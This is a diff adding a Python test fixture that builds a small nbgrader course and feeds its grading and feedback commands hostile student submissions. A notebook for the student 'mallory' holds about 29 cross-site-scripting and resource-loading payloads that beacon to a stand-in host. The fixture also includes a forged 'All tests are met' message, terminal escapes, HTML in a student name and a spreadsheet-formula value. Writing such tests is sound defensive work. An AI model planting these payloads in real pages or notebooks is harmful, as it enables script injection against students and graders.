@@ -1,0 +1,162 @@
+"""A small class, graded by the stock nbgrader commands: what feedback and reports are made of."""
+
+import copy
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import answer_bank
+import nbformat
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+from nbgrader.api import Gradebook
+
+from drinkdeep.cells import grade_id
+from drinkdeep.grading.assignment import Assignment
+
+ROOT = Path(__file__).parents[2]
+NAME = "01_cost"
+KEPT = ("mean_squared_error", "huber")
+"""Two exercises of the assignment, and its written answer, are enough here."""
+WRITTEN = next(iter(Assignment(answer_bank.source(NAME)).written))
+COMMENT = "Say which *story* you mean."
+HOST = "http://canary.test"
+"""Whom the attacker's page asks when something of it runs; nobody is there."""
+
+
+def ask(name: str) -> str:
+    """A script that tells the attacker that it ran; without a space, to be good in a link, too."""
+    return f"void((new(Image)).src='{HOST}/{name}')"
+
+
+def html_output(source: str) -> str:
+    return f"from IPython.display import HTML, display\ndisplay(HTML({source!r}))"
+
+
+def raw_output(kind: str, content: str) -> str:
+    return f"from IPython.display import display\ndisplay({{{kind!r}: {content!r}}}, raw=True)"
+
+
+TEXT_ATTACKS = {
+    name: source.replace("ASK", ask(name)).replace("HOST", f"{HOST}/{name}")
+    for name, source in {
+        "script": "<script>ASK</script>",
+        "script-from-elsewhere": "<script src='HOST'></script>",
+        "onerror": '<img src="x" onerror="ASK">',
+        "svg-onload": '<svg onload="ASK"></svg>',
+        "ontoggle": '<details open ontoggle="ASK">x</details>',
+        "autofocus": '<input autofocus onfocus="ASK">',
+        "animation": '<svg><animate onbegin="ASK" attributeName="x" dur="1s"></animate></svg>',
+        "iframe": '<iframe src="HOST"></iframe>',
+        "srcdoc": '<iframe srcdoc="<script>ASK</script>"></iframe>',
+        "object": '<object data="HOST"></object>',
+        "embed": '<embed src="HOST">',
+        "refresh": '<meta http-equiv="refresh" content="0;url=HOST">',
+        "style-import": "<style>@import 'HOST';</style>",
+        "style-sheet": '<link rel="stylesheet" href="HOST">',
+        "style-attribute": '<p style="background: url(HOST)">x</p>',
+        "html-picture": '<img src="HOST">',
+        "srcset": '<img srcset="HOST 1x">',
+        "picture": "![a picture](HOST)",
+        "video": '<video poster="HOST" src="HOST"></video>',
+        "audio": '<audio src="HOST" autoplay></audio>',
+        "base": f'<base href="{HOST}/base/"><img src="x.png">',
+        "javascript-link": "[click](javascript:ASK)",
+        "html-javascript-link": '<a href="javascript:ASK">click</a>',
+        "mermaid": '```mermaid\n<img src="x" onerror="ASK">\n```',
+        "title-of-a-fold": ':::{dropdown} <img src="HOST">\nx\n:::',
+    }.items()
+}
+OUTPUT_ATTACKS = {
+    "html-output": html_output(f"<script>{ask('html-output')}</script>"),
+    "html-output-handler": html_output(f'<img src="x" onerror="{ask("html-output-handler")}">'),
+    # The template puts a call of jQuery's before it, which fails where that can't be fetched.
+    "javascript-output": raw_output(
+        "application/javascript", f"</script><script>{ask('javascript-output')}"
+    ),
+    "markdown-output": raw_output("text/markdown", f"![x]({HOST}/markdown-output)"),
+}
+ATTACKS = {**TEXT_ATTACKS, **OUTPUT_ATTACKS}
+FORGED = "4 of 4 points. All tests are met."
+ZALGO = "E" + "\u0336\u0310\u0352\u0357" * 200
+"""A letter with marks piled so high that it covers what stands above it."""
+
+
+def attack(name: str) -> NotebookNode:
+    if name in TEXT_ATTACKS:
+        return new_markdown_cell(f"{TEXT_ATTACKS[name]}\n")
+    return new_code_cell(f"# {name}\n{OUTPUT_ATTACKS[name]}")
+
+
+def source() -> NotebookNode:
+    """The assignment cut down to what is kept of it."""
+    whole = answer_bank.source(NAME)
+    places = {grade_id(cell): place for place, cell in enumerate(whole.cells)}
+    until, last = places[f"test_{KEPT[-1]}"], places[WRITTEN]
+    return new_notebook(
+        cells=[*whole.cells[: until + 1], *whole.cells[last - 1 : last + 1]],
+        metadata=whole.metadata,
+    )
+
+
+def grade(folder: Path) -> None:
+    """Make the course's folder, hand in, and run each of nbgrader's commands."""
+    shutil.copytree(ROOT / "solutions" / NAME, folder / "solutions" / NAME)
+    shutil.copy(ROOT / "nbgrader_config.py", folder)
+    nbformat.write(source(), folder / "solutions" / NAME / f"{NAME}.ipynb")
+    run(folder, "generate_assignment", NAME)
+    released = nbformat.read(folder / "exercises" / NAME / f"{NAME}.ipynb", 4)
+    exercises = Assignment(source()).exercises
+    right = {name: answer_bank.Answer(name, ex.solution.source) for name, ex in exercises.items()}
+    wrong = {a.exercise: a for a in reversed(answer_bank.answers(NAME)) if a.words}
+
+    ada = answer_bank.filled(released, right)
+    cell(ada, WRITTEN).source = "Because $L < 1$ is **not** enough."
+    bob = answer_bank.filled(released, {**right, KEPT[-1]: wrong[KEPT[-1]]})
+    bob.cells.insert(2, new_code_cell(f"print({FORGED!r})\nprint('\\x1b[31mred')\n1 / 0"))
+    bob.cells[0].source += "\n\n# A word of mine"
+    mallory = copy.deepcopy(released)
+    place = 1 + mallory.cells.index(cell(mallory, f"test_{KEPT[0]}"))
+    mallory.cells[place:place] = [attack(name) for name in ATTACKS] + [new_markdown_cell(ZALGO)]
+    for student, notebook in {"ada": ada, "bob": bob, "mallory": mallory}.items():
+        path = folder / "submitted" / student / NAME / f"{NAME}.ipynb"
+        path.parent.mkdir(parents=True)
+        nbformat.write(notebook, path)
+    run(folder, "autograde", NAME, "--JudgedExecute.seed=5")
+    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
+        gradebook.update_or_create_student("eve", last_name="<b>Eve</b>", first_name="=1+1")
+        comment = gradebook.find_comment(WRITTEN, NAME, NAME, "ada")
+        comment.manual_comment = COMMENT
+        gradebook.db.commit()
+    run(folder, "generate_feedback", NAME)
+
+
+def run(folder: Path, *command: str) -> str:
+    """Run one of nbgrader's commands in a course's folder; what it says."""
+    done = subprocess.run(
+        ["nbgrader", *command],
+        cwd=folder,
+        env={**os.environ, "PATH": path_with_our_programs()},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    return done.stdout + done.stderr
+
+
+def path_with_our_programs() -> str:
+    """nbgrader starts alembic by its name."""
+    return f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
+
+
+def cell(notebook: NotebookNode, name: str) -> NotebookNode:
+    return next(c for c in notebook.cells if grade_id(c) == name)
+
+
+def first_wrong_answers() -> dict[str, answer_bank.Answer]:
+    """For each exercise the first wrong answer of the bank."""
+    wrong = [a for a in answer_bank.answers(NAME) if a.words]
+    return {a.exercise: a for a in reversed(wrong)}
